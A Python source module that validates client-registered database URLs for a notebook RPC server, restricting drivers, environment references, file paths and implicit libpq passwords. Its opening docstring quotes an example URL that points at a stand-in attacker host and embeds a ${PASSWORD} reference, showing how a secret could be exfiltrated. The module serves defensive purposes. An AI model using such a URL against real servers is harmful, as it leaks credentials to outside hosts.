"""Databases that clients ask to be opened, by URLs of their own.

Whoever registers one has this server reach a file or a host, as this server's user. So their URLs
are bounded: to drivers that load nothing a URL names (``--register``), to the properties that
``sansio/permitted.py`` has, with ``--allowed-paths`` to files in these folders, and never to this
server's own secrets. A reference is read only if its name is allowed (``--allowed-reference``):
``postgresql://u:x@evil.example/${PASSWORD}`` would tell it. Nor is libpq let near the passwords
that it finds by itself.

What was kept was judged when it was registered, or written by this user's hand: it may refer to
whatever it likes, and is bounded like the rest.
"""

from __future__ import annotations

import logging
import os
import re
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Final

from notebook_rpc import references
from notebook_rpc.errors import Forbidden, InvalidParams, NotKept
from notebook_rpc.persisted import Persisted
from notebook_rpc.sansio import permitted, urls
from notebook_rpc.sansio.addresses import address
from notebook_rpc.services.contexts import Contexts, Prepared
from notebook_rpc.settings import ConfigError

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from notebook_rpc.driver import Database
    from notebook_rpc.sansio.addresses import Address
    from notebook_rpc.services.contexts import Databases
    from notebook_rpc.services.workers import Workers
    from notebook_rpc.settings import Settings

logger = logging.getLogger(__name__)

DRIVERS: Final = ("duckdb", "sqlite", "postgres")
"""Not "dbapi", which imports the module that a URL names, nor "odbc", whose drivers are libraries
of others that do as their keywords say."""

# In the place of what libpq would look for: PGPASSWORD, ~/.pgpass, a password of a service.
_WITHOUT_OWN: Final = {"postgres": {"password": "", "passfile": os.devnull}}
# DuckDB's own, one for each core and eight for files far away, are much for each of many.
_THREADS: Final = {"threads": "2", "async_threads": "1"}
_MEMORY: Final = ":memory:"


def prepare(settings: Settings, url: str, *, was_kept: bool = False) -> Prepared:
    """What is found out of *url* before it is opened.

    Raises:
        InvalidParams: it is malformed, or there is no such driver.
        Forbidden: it leads where clients may not go.
        MissingDriver: what its driver needs is not installed.
    """
    if not urls.is_url(url):
        raise InvalidParams("a connection needs a URL, as sqlite:///FILE")
    engine, properties = urls.read(url)
    if engine not in (settings.register or DRIVERS):
        names = ", ".join(filter(None, settings.register or DRIVERS)) or "none"
        raise Forbidden(
            f"clients may not register databases of the driver {engine}, only of: {names}"
            " (--register says which)"
        )
    permitted.check(engine, urls.without_references(properties))
    if not was_kept:
        _refuse_references(settings, properties)
    if settings.allowed_paths:
        _refuse_other_files(settings, properties)
    more = _WITHOUT_OWN.get(engine, {})
    if engine == "duckdb" and not _is_our_own(settings, properties):
        more = _THREADS
    own = {key: value for key, value in more.items() if key not in properties}
    try:
        opener = references.opener(settings, url, own)
    except ConfigError as exc:
        raise Forbidden(str(exc)) from exc
    return Prepared(_address(url), opener, engine)


@dataclass(frozen=True)
class Kept:
    """What clients wanted to be kept, without what has the name of one of the server's own."""

    settings: Settings
    own: Mapping[str, Address]
    file: Persisted
    urls: Mapping[str, str]

    @classmethod
    def load(cls, settings: Settings, environ: Mapping[str, str]) -> Kept:
        """
        Raises:
            ConfigError: the file is damaged, or cannot be read.
        """
        own = references.addresses(settings)
        file = Persisted.of(settings.config_name, environ)
        try:
            kept = file.load()
        except NotKept as exc:
            raise ConfigError(str(exc)) from exc
        for name in own.keys() & kept.keys():
            logger.warning("the connection %s of %s is hidden by the server's own", name, file.path)
        return cls(settings, own, file, {name: kept[name] for name in kept if name not in own})

    def openers(self) -> dict[str, Callable[[], Database]]:
        """As of ``references``. What is wrong with one is found out when somebody wants it: no
        server shall fail to start for it."""
        return {name: partial(self._open, url) for name, url in self.urls.items()}

    def engines(self) -> dict[str, str]:
        return {name: urls.read(url)[0] for name, url in self.urls.items()}

    def contexts(self, databases: Databases, workers: Workers) -> Contexts:
        return Contexts(
            self.own,
            {name: _address(url) for name, url in self.urls.items()},
            *(databases, workers),
            partial(prepare, self.settings),
            self.file.add,
            self.settings.max_registered,
        )

    def _open(self, url: str) -> Database:
        return prepare(self.settings, url, was_kept=True).open()


def _address(url: str) -> Address:
    return address(url.partition(":")[0], urls.read(url)[1])


def _is_our_own(settings: Settings, properties: Mapping[str, str]) -> bool:
    """Whether it is a file that this server has been started with. DuckDB opens it again only as
    it was opened before."""
    file = Path(properties.get("database") or _MEMORY)
    others = [each.database for each in references.addresses(settings).values()]
    try:
        ours = {Path(other).resolve() for other in others if other and other != _MEMORY}
        return file.resolve() in ours
    except (OSError, RuntimeError, ValueError):
        return False  # what is wrong with its name, the driver says


def _refuse_references(settings: Settings, properties: Mapping[str, str]) -> None:
    # Of the properties, not the URL: %24%7BNAME%7D is a reference, too.
    for each in urls.references(properties):
        if each not in settings.allowed_reference:
            raise Forbidden("this URL refers to what is not allowed; see --allowed-reference")


def _refuse_other_files(settings: Settings, properties: Mapping[str, str]) -> None:
    """Besides what the driver bounds: that a file is reached by being the database itself."""
    if set(properties) - {"database"}:
        raise Forbidden("with --allowed-paths, a URL of a client has nothing but a file's name")
    file = properties.get("database") or _MEMORY
    if file == _MEMORY:  # to SQLite, ":memory:/../x" is a file
        return
    if re.match(r"[A-Za-z][\w.+-]+:", file):  # of another kind of file system, or a server
        raise Forbidden("with --allowed-paths, the database of a client must be a file")
    try:
        path = Path(file).resolve()
        folders = [Path(each).expanduser().resolve() for each in settings.allowed_paths if each]
    except (OSError, RuntimeError, ValueError) as exc:
        raise InvalidParams(f"this file cannot be found: {exc}") from exc
    if not any(path.is_relative_to(folder) for folder in folders):
        raise Forbidden("this file is in none of the folders of --allowed-paths")
